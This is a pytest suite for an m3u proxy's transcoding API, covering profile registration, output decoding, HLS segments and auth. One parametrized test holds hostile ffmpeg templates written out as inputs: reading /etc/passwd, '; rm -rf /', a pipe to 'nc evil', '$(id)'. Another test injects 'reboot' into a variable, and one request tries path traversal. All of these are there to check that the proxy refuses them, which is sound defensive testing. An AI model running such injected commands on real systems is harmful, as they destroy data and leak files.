"""POST /transcode and what a transcode plays: registration, hostile templates refused
through the HTTP route, and each profile's output decoded by ffprobe (real ffmpeg, real
media from a provider on loopback)."""

import hashlib
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from m3u_proxy.keys import TRANSCODES
from tests.conftest import ProxyFactory, until
from tests.media import needs_ffmpeg
from tests.providers import Provider
from tests.transcode.support import (
    EDITOR,
    capture,
    ffmpeg_children,
    gone,
    live_url,
    no_ffmpeg,
    probe,
    read_stream,
    register,
)

pytestmark = needs_ffmpeg


class TestRegistration:
    async def test_a_built_in_profile_registers_a_transcoded_stream(
        self, proxy: TestClient[Any, Any]
    ) -> None:
        """POST /transcode answers with id md5(url + profile), transcoding metadata and
        a /stream endpoint; the stream lists as "Transcoding"."""
        url = "http://127.0.0.1:9/live/a.ts"
        body = await register(proxy, url, "h264_aac", metadata={"id": "7"})
        stream_id = hashlib.md5((url + "h264_aac").encode()).hexdigest()
        assert body["stream_id"] == stream_id
        assert body["metadata"] == {"id": "7", "transcoding": "true"}
        assert body["stream_endpoint"] == f"/stream/{stream_id}"
        stat = (await (await proxy.get(f"/streams/{stream_id}")).json())["stream"]
        assert stat["stream_type"] == "Transcoding"
        assert stat["media_info"] is None
        again = await proxy.post("/transcode", json={"url": url, "profile": "h264_aac"})
        assert again.status == 200

    async def test_an_hls_profile_plays_at_the_hls_path(self, proxy: TestClient[Any, Any]) -> None:
        """A profile whose output is HLS is announced at /hls/{id}/playlist.m3u8."""
        body = await register(proxy, "http://127.0.0.1:9/live/a.ts", "hls")
        assert body["stream_endpoint"] == f"/hls/{body['stream_id']}/playlist.m3u8"

    async def test_the_built_in_profiles_are_listed(self, proxy: TestClient[Any, Any]) -> None:
        """GET /transcode/profiles names each built-in with its description, format and args."""
        profiles = (await (await proxy.get("/transcode/profiles")).json())["profiles"]
        assert set(profiles) >= {"remux", "h264_aac", "h264_720p", "hls"}
        assert profiles["hls"]["format"] == "hls"
        assert profiles["remux"]["args"].startswith("-i {input_url}")

    async def test_info_says_transcoding_is_available(self, proxy: TestClient[Any, Any]) -> None:
        """/info reports transcoding enabled with the built-in profile names."""
        info = await (await proxy.get("/info")).json()
        assert info["transcoding"]["enabled"] is True
        assert "remux" in info["transcoding"]["profiles"]

    @pytest.mark.parametrize(
        ("profile", "named"),
        [
            ("-i /etc/passwd -f mpegts {output_args}", "-i {input_url}"),
            ("-f lavfi -i {input_url} -f mpegts {output_args}", "-f lavfi"),
            ("-i {input_url} -f mpegts out.ts -f mpegts {output_args}", "out.ts"),
            ("-i {input_url} -c:v {codec} -f mpegts {output_args}", "{codec}"),
            ("-i {input_url} -f mpegts {output_args}; rm -rf /", "shell"),
            ("-i {input_url} -f mpegts {output_args} | nc evil 1", "shell"),
            ("-i {input_url} -f mpegts $(id) {output_args}", "shell"),
            ("no_such_profile", "output_args"),
        ],
    )
    async def test_a_hostile_template_is_refused_and_nothing_starts(
        self, proxy: TestClient[Any, Any], profile: str, named: str
    ) -> None:
        """A template that reads files, adds outputs, uses unknown placeholders or shell
        syntax is a 422 naming the problem; nothing is registered and no ffmpeg runs."""
        resp = await proxy.post(
            "/transcode", json={"url": "http://127.0.0.1:9/a.ts", "profile": profile}
        )
        assert resp.status == 422
        assert named in (await resp.json())["detail"]
        assert (await (await proxy.get("/streams")).json())["total"] == 0
        assert not ffmpeg_children()

    async def test_a_variable_with_shell_characters_is_refused(
        self, proxy: TestClient[Any, Any]
    ) -> None:
        """profile_variables are values, never syntax: a ``;`` in one is a 422."""
        resp = await proxy.post(
            "/transcode",
            json={
                "url": "http://127.0.0.1:9/a.ts",
                "profile": "h264_720p",
                "profile_variables": {"bitrate": "3M; reboot"},
            },
        )
        assert resp.status == 422
        assert "profile_variables.bitrate" in (await resp.json())["detail"]


class TestOutput:
    @pytest.mark.parametrize("profile", ["remux", "h264_aac", "h264_720p", EDITOR])
    async def test_each_ts_profile_gives_output_ffprobe_decodes(
        self, proxy: TestClient[Any, Any], source_url: str, tmp_path: Path, profile: str
    ) -> None:
        """The transcode's bytes are MPEG-TS with H.264 and AAC (720p: 720 lines)."""
        stream_id = (await register(proxy, source_url, profile))["stream_id"]
        out = await capture(proxy, stream_id, 150_000, tmp_path / "out.ts")
        assert probe(out) == {"h264", "aac"}
        if profile == "h264_720p":
            assert "720" in probe(out, "stream=height")

    async def test_the_hls_profile_writes_a_playlist_of_decodable_segments(
        self, proxy: TestClient[Any, Any], source: Provider, media: Path, tmp_path: Path
    ) -> None:
        """The HLS profile's playlist names segments the proxy serves from ffmpeg's
        directory; they decode as H.264 + AAC, and the directory goes with the stream."""
        stream_id = (await register(proxy, live_url(source, media), "hls"))["stream_id"]
        resp = await proxy.get(f"/hls/{stream_id}/playlist.m3u8")
        assert resp.status == 200, await resp.text()
        playlist = await resp.text()
        segment = next(line for line in playlist.splitlines() if line.endswith(".ts"))
        seg = await proxy.get(f"/hls/{stream_id}/{segment}")
        assert seg.status == 200
        (tmp_path / "seg.ts").write_bytes(await seg.read())
        assert probe(tmp_path / "seg.ts") == {"aac", "h264"}
        directory = proxy.app[TRANSCODES].hls[stream_id].directory
        assert (await proxy.get(f"/hls/{stream_id}/seg_999999.ts")).status == 404
        assert (await proxy.get(f"/hls/{stream_id}/..%2Fplaylist.m3u8")).status == 404
        await proxy.delete(f"/streams/{stream_id}")
        await until(lambda: gone(directory), 5)
        await until(no_ffmpeg, 5)

    async def test_stats_carry_the_input_and_the_progress(
        self, proxy: TestClient[Any, Any], source: Provider, media: Path
    ) -> None:
        """While a transcode runs, StreamStat has media_info (probed input) and
        output_media_info (ffmpeg's progress)."""
        stream_id = (await register(proxy, live_url(source, media), "h264_aac"))["stream_id"]
        async with proxy.get(f"/stream/{stream_id}") as resp:
            await read_stream(resp, 100_000)

            async def reported() -> bool:
                stat = (await (await proxy.get(f"/streams/{stream_id}")).json())["stream"]
                return bool(stat["media_info"]) and bool(stat["output_media_info"])

            await until(reported, 15)
            stat = (await (await proxy.get(f"/streams/{stream_id}")).json())["stream"]
        info = stat["media_info"]
        assert info["resolution"] == "160x120"
        assert info["video_codec"] == "h264"
        assert info["audio_codec"] == "aac"
        assert "speed" in stat["output_media_info"]

    async def test_with_playback_auth_hls_segments_carry_the_token(
        self, proxy_factory: ProxyFactory, source_url: str
    ) -> None:
        """With playback_auth the transcode's playlist names its segments with the token;
        a segment asked for without it is a 403."""
        proxy = await proxy_factory(auth={"playback_auth": True})
        body = await register(proxy, source_url, "hls")
        stream_id, endpoint = body["stream_id"], body["stream_endpoint"]
        assert (await proxy.get(f"/hls/{stream_id}/playlist.m3u8")).status == 403
        playlist = await (await proxy.get(endpoint)).text()
        segment = next(line for line in playlist.splitlines() if ".ts?token=" in line)
        assert (await proxy.get(f"/hls/{stream_id}/{segment}")).status == 200
        bare = segment.split("?", 1)[0]
        assert (await proxy.get(f"/hls/{stream_id}/{bare}")).status == 403
